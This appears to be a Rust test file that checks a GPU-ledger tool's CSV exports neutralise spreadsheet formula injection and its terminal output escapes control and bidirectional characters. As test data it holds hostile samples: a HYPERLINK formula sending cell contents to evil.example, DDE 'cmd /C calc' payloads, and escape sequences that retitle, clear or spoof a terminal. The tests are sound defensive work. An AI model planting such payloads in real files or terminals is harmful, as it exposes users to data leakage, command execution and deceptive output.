//! Issue 20, points 6 and 9: text that whoever appended an event chose
//! (names, titles, actors) reaches a spreadsheet through every CSV (the
//! API's views, `view --format csv`, the dashboard's links) and an
//! auditor's terminal through `view` tables and `audit trace`. A cell a
//! spreadsheet would run as a formula is neutralised; a character a
//! terminal would act on is shown escaped; numbers stay numbers.

mod common;

use common::*;
use gpu_ledger_api::server::{Access, Limits};
use gpu_ledger_testkit::history::{synthetic_history, write_lines};
use gpu_ledger_testkit::server::spawn;
use serde_json::json;

const FORMULA_POOL: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
const FORMULA_PROVIDER: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_MODEL: &str = "-2+3+cmd|' /C calc'!A0";
const FORMULA_ACTOR: &str = "+msit";
/// OSC 0 retitles the window, OSC 8 plants a link, CSI 2J clears the
/// screen, CR returns to overwrite, an RLO reorders what follows.
const TERMINAL_NAME: &str = "Lab\u{1b}]0;pwned\u{7}\u{1b}]8;;http://evil.example\u{7}x\u{1b}]8;;\u{7}\u{1b}[2J\rfake\u{202e}1000-WA\u{2066}i\u{2069}\u{9b}31m";

/// The synthetic history, then pools and an organization with hostile
/// names, and an application with a hostile title.
fn hostile_history() -> Vec<String> {
    let mut lines = synthetic_history(1);
    let at = "2026-03-10T09:00:00+09:00";
    lines.push(json!({"type":"PoolRegistered","occurred_at":at,"actor":FORMULA_ACTOR,"pool_id":"POOL-F","name":FORMULA_POOL,"source":"leased","provider":FORMULA_PROVIDER,"gpu_model":FORMULA_MODEL,"gpus":16,"gpus_per_server":8}).to_string());
    lines.push(json!({"type":"PoolRegistered","occurred_at":at,"actor":"msit","pool_id":"POOL-T","name":TERMINAL_NAME,"source":"owned","gpu_model":"H100","gpus":8,"gpus_per_server":8}).to_string());
    lines.push(json!({"type":"OrganizationRegistered","occurred_at":at,"actor":"msit","org_id":"ORG-T","name":TERMINAL_NAME,"sector":"academia","size":"public","region":"capital"}).to_string());
    lines.push(json!({"type":"ApplicationSubmitted","occurred_at":at,"actor":"org:ORG-T","application_id":"APP-T","call_id":"CALL-1","track_id":"T1","org_id":"ORG-T","title":TERMINAL_NAME,"purpose":"research","requested_gpus":8}).to_string());
    lines
}

/// The CSV rows of the hostile pools, as a spreadsheet would read them:
/// every formula cell neutralised, the numbers left as numbers.
fn assert_neutralised(csv: &str, what: &str) {
    let row = csv
        .lines()
        .find(|l| l.starts_with("POOL-F,"))
        .unwrap_or_else(|| panic!("{what}: no POOL-F row in\n{csv}"));
    assert_eq!(
        row,
        "POOL-F,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\",leased,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,8,16,0,0,16",
        "{what}"
    );
    for line in csv.lines() {
        for cell in line.split(',') {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a cell a spreadsheet would run: {cell:?} in {line:?}"
            );
        }
    }
}

#[tokio::test]
async fn every_csv_neutralises_formulas_and_keeps_numbers() {
    let history = hostile_history();
    let s = spawn(&history, Access::Local, Limits::default()).await;

    // The API's views.
    let (status, api) = s.get_text(None, "/v1/views/pools?format=csv").await;
    assert_eq!(status, 200, "{api}");
    assert_neutralised(&api, "GET /v1/views/pools?format=csv");

    // The dashboard's links: the same view, and the latest events (actors).
    let (status, dash) = s.get_text(None, "/csv/pools").await;
    assert_eq!(status, 200, "{dash}");
    assert_eq!(dash, api, "the dashboard's CSV is the API's");
    let (status, events) = s.get_text(None, "/csv/events").await;
    assert_eq!(status, 200, "{events}");
    assert!(events.contains(",'+msit\n"), "{events}");
    assert_neutralised(&format!("{events}{dash}"), "/csv/events");

    // The command line, over the same ledger imported.
    let dir = tempfile::tempdir().unwrap();
    let (data, file) = (dir.path().join("data"), dir.path().join("in.jsonl"));
    write_lines(&file, &history);
    import_file(&data, &file);
    let cli = succeeds(&data, &["view", "pools", "--format", "csv"]);
    let cli = String::from_utf8(cli.stdout).unwrap();
    assert_neutralised(&cli, "view pools --format csv");
    // The JSON stays exact: it is for programs, not spreadsheets.
    let (_, json) = s.get(None, "/v1/views/pools").await;
    assert!(
        json.to_string().contains(r#""name":"=HYPERLINK("#),
        "{json}"
    );
}

/// What a terminal would act on in `out`, if anything.
fn terminal_controls(out: &str) -> Vec<char> {
    out.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
        })
        .collect()
}

#[test]
fn terminal_output_shows_controls_and_bidi_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let (data, file) = (dir.path().join("data"), dir.path().join("in.jsonl"));
    write_lines(&file, &hostile_history());
    import_file(&data, &file);
    for args in [
        &["view", "pools"][..],
        &["audit", "trace", "--org", "ORG-T"],
        &["audit", "trace", "--application", "APP-T"],
    ] {
        let out = succeeds(&data, args);
        let out = String::from_utf8(out.stdout).unwrap();
        assert_eq!(
            terminal_controls(&out),
            Vec::<char>::new(),
            "gpu-ledger {args:?}:\n{out}"
        );
        for escaped in [r"\u001B", r"\u0007", r"\u202E", r"\u2066", r"\u009B"] {
            assert!(
                out.contains(escaped),
                "gpu-ledger {args:?} shows {escaped}:\n{out}"
            );
        }
    }
    // The table stays aligned: each row of the pools table is as wide as its header.
    let out = String::from_utf8(succeeds(&data, &["view", "pools"]).stdout).unwrap();
    assert!(
        out.contains(r"Lab\u001B]0;pwned\u0007\u001B]8;;http://evil.example\u0007x\u001B]8;;\u0007\u001B[2J\u000Dfake\u202E1000-WA\u2066i\u2069\u009B31m"),
        "{out}"
    );
    let widths: std::collections::BTreeSet<usize> = out
        .lines()
        .filter(|l| l.starts_with('│') || l.starts_with('┌'))
        .map(|l| l.chars().count())
        .collect();
    assert_eq!(widths.len(), 1, "{out}");
    // An error that quotes the input is shown escaped too.
    let bad = dir.path().join("bad.jsonl");
    std::fs::write(&bad, format!("{}\n", json!({"type": TERMINAL_NAME}))).unwrap();
    let out = run(&data, &["import", bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(terminal_controls(&stderr), Vec::<char>::new(), "{stderr}");
}
